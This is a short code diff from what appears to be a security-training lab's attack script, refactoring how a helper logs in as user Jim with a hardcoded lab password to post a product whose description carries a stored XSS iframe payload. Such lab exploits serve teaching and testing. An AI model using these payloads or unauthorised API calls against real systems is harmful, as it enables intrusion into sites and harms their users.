@@ -3,9 +3,8 @@ import type { Attack, Tools } from '#lab'
 const PAYLOAD = '<iframe src="javascript:alert(`xss`)">'
 
 /** Puts a product into the catalogue as Jim, who has no business there. */
-async function addProduct({ http, settings, expect }: Tools, description: string): Promise<void> {
-  const login = await http.post('/rest/user/login', { email: `jim@${settings.domain}`, password: 'ncc-1701' })
-  const { token } = login.json<{ authentication: { token: string } }>().authentication
+async function addProduct({ logIn, http, settings, expect }: Tools, description: string): Promise<void> {
+  const { token } = await logIn(`jim@${settings.domain}`, 'ncc-1701')
   const answer = await http.post('/api/Products', { name: 'RestXSS', description, price: 47.11 }, { token })
   expect(answer.status === 201, `the product answered with ${answer.status}`)
   const { data } = answer.json<{ data: { description: string } }>()
